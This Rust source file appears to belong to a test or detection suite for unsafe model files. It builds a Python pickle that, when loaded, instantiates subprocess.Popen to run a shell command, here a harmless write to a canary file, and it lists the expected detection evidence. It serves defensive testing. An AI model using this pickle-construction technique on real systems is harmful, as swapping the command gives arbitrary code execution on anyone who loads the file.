//! `subprocess.Popen` as an instance that the pickle makes, by the opcode OBJ.

use super::*;
use crate::pickle::Op;

/// A program is started and waited for.
pub const ATTACK: Attack = Attack {
    id: "subprocess-popen",
    title: "a program by subprocess.Popen",
    summary: "The pickle says that the model is an instance of subprocess.Popen, and making \
              the instance starts the program. It then calls wait, so that the program has \
              ended when the load returns.",
    severity: Severity::Critical,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::UNIX_SHELL, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 78],
    references: &[
        Reference {
            title: "ReversingLabs: malware in models on Hugging Face (nullifAI)",
            url: "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face",
        },
        Reference {
            title: "Python documentation: subprocess",
            url: "https://docs.python.org/3/library/subprocess.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY), Sign::Happened(EventKind::Exec, "echo fallen")],
        policy: &[
            Evidence { kind: EventKind::Process, text: "" },
            Evidence { kind: EventKind::Exec, text: "echo fallen" },
        ],
    },
    quick: true,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let command = format!("echo fallen > '{}'", scene.path(CANARY));
    payload::file(ATTACK.id, target, |assembler| {
        assembler.global("builtins", "getattr");
        assembler.op(Op::Mark).global("subprocess", "Popen").op(Op::EmptyList).op(Op::Mark);
        assembler.text("/bin/sh").text("-c").text(&command).op(Op::Appends).op(Op::Obj);
        assembler.text("wait").op(Op::Tuple2).op(Op::Reduce);
        assembler.op(Op::EmptyTuple).op(Op::Reduce);
    })
}
